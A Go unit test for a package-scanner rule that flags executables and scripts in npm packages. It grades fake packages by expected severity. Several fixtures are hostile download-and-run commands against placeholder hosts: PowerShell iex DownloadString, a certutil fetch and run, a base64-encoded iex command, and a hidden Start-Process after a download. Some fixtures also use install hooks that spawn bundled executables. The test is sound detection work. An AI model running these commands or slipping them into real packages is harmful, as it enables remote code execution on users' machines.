package bin

import (
	"testing"

	"github.com/depfence/depfence/internal/finding"
	rt "github.com/depfence/depfence/internal/rules/rulestest"
)

func TestNativeExecutable(t *testing.T) {
	pe := "MZ\x90\x00inert test bytes, not a program"
	elf := "\x7fELF inert test bytes"
	rt.Check(t, NativeExecutable{}, []rt.Case{
		{"exe_spawned_at_install", map[string]string{
			"package.json":     rt.Pkg(`"main":"index.js","scripts":{"postinstall":"node ."}`),
			"index.js":         `const {spawn}=require("child_process");spawn(require("path").resolve("Setup.Helper.exe"),{detached:true})`,
			"Setup.Helper.exe": pe}, finding.SeverityCritical},
		// started by the library at run time, not at install
		{"exe_runtime_helper", map[string]string{
			"package.json":           rt.Pkg(`"main":"index.js"`),
			"index.js":               `const {execFileSync}=require("child_process");module.exports=()=>execFileSync(require("path").join(__dirname,"vendor","term-helper.exe"))`,
			"vendor/term-helper.exe": pe}, finding.SeverityMedium},
		{"exe_unused", map[string]string{"package.json": rt.Pkg(""), "tools/helper.exe": pe}, finding.SeverityMedium},
		{"platform_package_elf", map[string]string{"package.json": rt.Pkg(`"os":["linux"],"cpu":["x64"]`), "bin/tool": elf}, finding.SeverityInfo},
		{"native_addon", map[string]string{"package.json": rt.Pkg(""), "dist/x.win32-x64.node": pe, "index.js": `const {spawn}=require("child_process");require("./dist/x.win32-x64.node");spawn("git")`}, finding.SeverityInfo},
		// Windows scripts are read
		{"cmd_shim", map[string]string{"package.json": rt.Pkg(`"bin":{"tool":"bin/run"}`), "bin/run": "#!/usr/bin/env node\nrequire('../lib/cli')", "bin/run.cmd": "@echo off\r\nnode \"%~dp0\\run\" %*\r\n"}, finding.SeverityLow},
		{"ps1_download_run", map[string]string{"package.json": rt.Pkg(""), "tools/update.ps1": "$u='https://dl.example.invalid/a.ps1'\r\niex (New-Object Net.WebClient).DownloadString($u)\r\n"}, finding.SeverityHigh},
		{"bat_certutil", map[string]string{"package.json": rt.Pkg(""), "setup.bat": "certutil -urlcache -split -f http://203.0.113.9/s.exe %TEMP%\\s.exe && %TEMP%\\s.exe\r\n"}, finding.SeverityHigh},
		{"cmd_at_install", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"setup.cmd"}`), "setup.cmd": "@echo off\r\necho hi\r\n"}, finding.SeverityCritical},
		{"no_binaries", map[string]string{"package.json": rt.Pkg(""), "index.js": "module.exports = 1"}, finding.SeverityNone},
		// a script started hidden at install by a package listing every
		// system (no platform package); its encoded command kept in a
		// variable is read
		{"ps1_at_install_all_systems", map[string]string{"package.json": rt.Pkg(`"os":["win32","linux","darwin"],"scripts":{"install":"node i.js"}`),
			"i.js":      `const { spawn } = require("child_process"); spawn("powershell.exe", ["-File", require("path").join(__dirname, "setup.ps1")], { detached: true, stdio: "ignore" })`,
			"setup.ps1": "Write-Host 'checking'\r\n"}, finding.SeverityCritical},
		// a platform package's own install script that downloads and
		// runs a program
		{"ps1_at_install_platform_downloads", map[string]string{"package.json": rt.Pkg(`"os":["win32"],"scripts":{"postinstall":"node i.js"}`),
			"i.js":      `const { spawn } = require("child_process"); spawn("powershell.exe", ["-File", require("path").join(__dirname, "setup.ps1")], { detached: true, stdio: "ignore" })`,
			"setup.ps1": "(New-Object Net.WebClient).DownloadFile($src, $dst)\r\nStart-Process -FilePath $dst -WindowStyle Hidden\r\n"}, finding.SeverityCritical},
		{"ps1_at_install_platform_quiet", map[string]string{"package.json": rt.Pkg(`"os":["win32"],"scripts":{"postinstall":"node i.js"}`),
			"i.js":      `const { spawn } = require("child_process"); spawn("powershell.exe", ["-File", require("path").join(__dirname, "setup.ps1")])`,
			"setup.ps1": "Write-Host 'registering the shim directory'\r\n"}, finding.SeverityLow},
		{"ps1_encoded_in_variable", map[string]string{"package.json": rt.Pkg(""), "tools/policy.ps1": "$policy = 'aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAHgALgBpAG4AdgBhAGwAaQBkAC8AcAAuAHAAcwAxACkA'\r\npowershell -NoProfile -EncodedCommand $policy\r\n"}, finding.SeverityHigh},
	})
}
